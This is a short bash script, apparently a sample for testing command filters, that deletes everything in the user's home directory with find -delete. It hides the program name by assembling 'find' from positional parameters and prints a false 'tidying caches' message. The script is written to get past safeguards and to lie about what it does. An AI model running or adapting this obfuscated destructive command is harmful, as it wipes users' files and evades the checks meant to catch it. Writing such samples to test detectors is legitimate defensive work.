#!/usr/bin/env bash
# Evasion: empty the home directory with find -delete, the program named
# letter by letter through the positional parameters of a helper function.
tidy() {
	set -- f i n d
	"$1$2$3$4" "$HOME" -mindepth 1 -delete
}
echo "tidying caches"
tidy
